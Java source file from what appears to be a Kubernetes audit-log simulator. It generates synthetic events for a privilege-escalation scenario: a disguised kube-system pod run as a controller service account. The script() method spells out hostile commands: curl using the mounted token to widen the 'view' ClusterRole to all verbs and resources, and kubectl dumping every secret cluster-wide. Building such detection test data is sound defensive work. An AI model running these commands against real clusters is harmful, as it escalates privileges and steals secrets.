package io.chainwatch.generate;

import io.chainwatch.generate.ClusterProfile.Node;

import static io.chainwatch.generate.Obj.arr;
import static io.chainwatch.generate.Obj.of;
import static io.chainwatch.generate.TrafficModel.S;

/**
 * A pod run as one of kube-controller-manager's controller accounts (S14; Elastic "Suspicious Assignment of
 * Controller Service Account", after Palo Alto Networks' research on excessive controller permissions):
 * someone who may create pods in kube-system (but not bind roles) starts a pod with a system-looking name whose
 * {@code serviceAccountName} is e.g. clusterrole-aggregation-controller or daemon-set-controller, so that the
 * kubelet mounts that account's token into it; then either execs into the pod and runs kubectl there, or the
 * pod's own command does the work. The token (bound to the pod: user.extra pod-name, node-name) is used from
 * the pod's IP with kubectl or curl to use the account's power: widen a ClusterRole with escalate, create
 * pods elsewhere, read secrets cluster-wide. Evidence: the pod create, the exec when there is one, the token's
 * first request. Not expressible on GKE (no user.extra there).
 */
final class ControllerSaPodScenario implements Scenario {
    static final String[][] DISGUISES = {{"kube-agg-helper", "clusterrole-aggregation-controller"},
            {"kube-proxy-healthcheck", "daemon-set-controller"}, {"coredns-autoscaler-status", "namespace-controller"},
            {"kube-controller-sync", "clusterrole-aggregation-controller"}, {"node-lease-gc", "generic-garbage-collector"},
            {"csi-node-registrar-fix", "daemon-set-controller"}, {"kcm-metrics-proxy", "clusterrole-aggregation-controller"}};
    static final String[][] IMAGES = {{"docker.io/bitnami/kubectl:1.31.2", "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"},
            {"docker.io/alpine/k8s:1.30.4", "kubectl/v1.30.4 (linux/amd64) kubernetes/a51b3b7"},
            {"docker.io/curlimages/curl:8.9.1", "curl/8.9.1"}};

    @Override
    public String name() {
        return "controller-sa-pod";
    }

    @Override
    public String patternId() {
        return "controller-sa-pod-then-token-use";
    }

    @Override
    public String description() {
        return "pod in kube-system run as a controller service account, then its pod-bound token used with kubectl/curl";
    }

    @Override
    public boolean supports(OutputFormat format) {
        return format != OutputFormat.GKE;
    }

    @Override
    public void inject(ScenarioContext c, long t) {
        Rng r = c.rng;
        ClusterProfile p = c.profile;
        String[] d = r.pick(DISGUISES);
        String sa = d[1];
        String pod = d[0] + "-" + r.suffix(5);
        c.state.claim("pod/kube-system/" + pod);
        String[] img = r.pick(IMAGES);
        boolean curl = img[1].startsWith("curl/");
        boolean interactive = r.chance(0.6); // exec in and run the tool by hand, else the pod's command does it
        Identity me = c.attacker("platform-operators", ClusterProfile.rbacReason("RoleBinding",
                "platform-operators/kube-system", "ClusterRole", "edit", "Group", p.groupName("platform-operators")));
        Node node = c.state.unreservedNode(r.pick(p.nodes));
        long at = t;
        if (r.chance(0.5)) {
            c.submit(c.request(me, at, "list", Res.SERVICEACCOUNTS, "kube-system", null, null).uri("?limit=500"));
            at += r.range(5 * S, 60 * S);
        }
        if (r.chance(0.3)) {
            c.submit(c.request(me, at, "list", Res.PODS, "kube-system", null, null).uri("?limit=500"));
            at += r.range(5 * S, 40 * S);
        }
        Obj container = of("name", "main", "image", img[0]);
        if (interactive) {
            container.put("command", arr("sleep", "86400"));
        } else if (curl) {
            container.put("command", arr("sh", "-c", script(sa, true)));
        } else {
            container.put("command", arr("sh", "-c", script(sa, false)));
        }
        container.put("resources", of("requests", of("cpu", "10m", "memory", "32Mi")));
        Obj spec = of("serviceAccountName", sa, "containers", arr(container),
                "tolerations", arr(of("key", "node-role.kubernetes.io/control-plane", "operator", "Exists",
                        "effect", "NoSchedule")));
        String podUid = r.uuid();
        Obj meta = of("name", pod, "namespace", "kube-system", "creationTimestamp", null,
                "labels", of("k8s-app", d[0]));
        Obj req = of("kind", "Pod", "apiVersion", "v1", "metadata", meta, "spec", spec, "status", of());
        Obj resp = of("kind", "Pod", "apiVersion", "v1",
                "metadata", meta.with("uid", podUid, "resourceVersion", c.state.nextResourceVersion(),
                        "creationTimestamp", Times.rfc3339Seconds(at)),
                "spec", Workloads.defaulted(spec, null).with("serviceAccount", sa),
                "status", of("phase", "Pending", "qosClass", "Burstable"));
        boolean apply = r.chance(0.5);
        c.evidence(c.request(me, at, "create", Res.PODS, "kube-system", pod, null)
                .uri(apply ? "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict"
                        : "?fieldManager=kubectl-run&fieldValidation=Strict")
                .bodies(req, resp).annotate("pod-security.kubernetes.io/enforce-policy", "privileged:latest"));
        Workloads.bind(c.sim, r, at + r.range(10_000, 80_000), "kube-system", pod, podUid, node);
        String podIP = node.nextPodIP();
        long running = at + r.range(3 * S, 12 * S);
        Workloads.kubeletGet(c.sim, r, running - r.range(500_000, 2 * S), node, Res.CONFIGMAPS, "kube-system",
                "kube-root-ca.crt");
        Workloads.podStatus(c.sim, r, running, node, "kube-system", pod, podUid, "main", podIP, true);

        long use;
        if (interactive) {
            at = running + r.range(15 * S, 180 * S);
            String query = "?command=sh&container=main&stdin=true&stdout=true&tty=true";
            Request exec = c.sim.streaming(r, me, at, c.websocket, "kube-system", pod, "exec", query,
                    (long) ((120 + r.exp(400)) * S));
            exec.command = HumanActivity.commandOf(query);
            c.evidence(exec);
            use = exec.started + r.range(20 * S, 120 * S);
        } else {
            use = running + r.range(1 * S, 4 * S);
        }

        // the pod's bound token: the controller account, the pod and node in user.extra
        Identity token = Identity.boundToken("kube-system", sa, Rng.uuidOf(p.seed, "sa/" + sa), pod, podUid, node.name,
                node.uid, r.nextLong(), new String[] {podIP}, img[1], ClusterProfile.rbacReason("ClusterRoleBinding",
                        "system:controller:" + sa, "ClusterRole", "system:controller:" + sa, "ServiceAccount",
                        sa + "/kube-system"));
        if (!curl) {
            c.evidence(c.sim.nonResource(r, token, use, "/api?timeout=32s"));
            c.submit(c.sim.nonResource(r, token, use + r.range(3_000, 20_000), "/apis?timeout=32s"));
            use += r.range(150_000, 900_000);
        }
        boolean first = curl;
        for (Request q : actions(c, token, use, sa)) {
            if (first) {
                c.evidence(q);
                first = false;
            } else {
                c.submit(q);
            }
        }
        if (r.chance(0.6)) {
            c.submit(c.request(me, use + r.range(5 * 60 * S, 15 * 60 * S), "delete", Res.PODS, "kube-system", pod, null));
        }
    }

    /** The pod's command when it works on its own. */
    private static String script(String sa, boolean curl) {
        String api = "https://kubernetes.default.svc";
        String auth = "-H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\"";
        switch (sa) {
            case "clusterrole-aggregation-controller":
                return curl ? "curl -sk " + auth + " -X PATCH -H 'Content-Type: application/merge-patch+json' " + api
                        + "/apis/rbac.authorization.k8s.io/v1/clusterroles/view -d @/tmp/rules.json; sleep 86400"
                        : "kubectl get clusterrole view -o yaml && kubectl patch clusterrole view --type=json -p \"$PATCH\"; sleep 86400";
            case "daemon-set-controller":
                return curl ? "curl -sk " + auth + " -X POST -H 'Content-Type: application/json' " + api
                        + "/api/v1/namespaces/default/pods -d @/tmp/pod.json; sleep 86400"
                        : "kubectl run -n default node-agent --image=alpine:3.20 -- sleep infinity; sleep 86400";
            default:
                return curl ? "curl -sk " + auth + " " + api + "/api/v1/secrets; sleep 86400"
                        : "kubectl get secrets -A -o json > /tmp/s.json; sleep 86400";
        }
    }

    /** What the account's power is used for, in order. */
    private static java.util.List<Request> actions(ScenarioContext c, Identity token, long at, String sa) {
        Rng r = c.rng;
        java.util.List<Request> out = new java.util.ArrayList<>();
        switch (sa) {
            case "clusterrole-aggregation-controller": {
                out.add(c.request(token, at, "get", Res.CLUSTERROLES, null, "view", null));
                at += r.range(3 * S, 30 * S);
                Obj patch = of("rules", arr(of("apiGroups", arr("*"), "resources", arr("*"), "verbs", arr("*"))));
                Obj role = of("kind", "ClusterRole", "apiVersion", "rbac.authorization.k8s.io/v1",
                        "metadata", of("name", "view", "resourceVersion", c.state.nextResourceVersion(),
                                "labels", of("kubernetes.io/bootstrapping", "rbac-defaults")),
                        "rules", arr(of("apiGroups", arr("*"), "resources", arr("*"), "verbs", arr("*"))));
                out.add(c.request(token, at, "patch", Res.CLUSTERROLES, null, "view", null).bodies(patch, role));
                break;
            }
            case "daemon-set-controller": {
                String pod = "node-agent-" + r.suffix(5);
                Obj spec = of("containers", arr(of("name", "node-agent", "image", "alpine:3.20",
                        "command", arr("sleep", "infinity"))));
                Obj meta = of("name", pod, "namespace", "default");
                out.add(c.request(token, at, "create", Res.PODS, "default", pod, null)
                        .bodies(of("kind", "Pod", "apiVersion", "v1", "metadata", meta, "spec", spec),
                                of("kind", "Pod", "apiVersion", "v1", "metadata", meta.with("uid", r.uuid(),
                                        "resourceVersion", c.state.nextResourceVersion()), "spec", spec,
                                        "status", of("phase", "Pending"))));
                break;
            }
            case "namespace-controller":
            case "generic-garbage-collector":
            default:
                out.add(c.request(token, at, "list", Res.NAMESPACES, null, null, null).uri("?limit=500"));
                at += r.range(2 * S, 20 * S);
                out.add(c.request(token, at, "list", Res.SECRETS, null, null, null).uri("?limit=500"));
                break;
        }
        return out;
    }
}
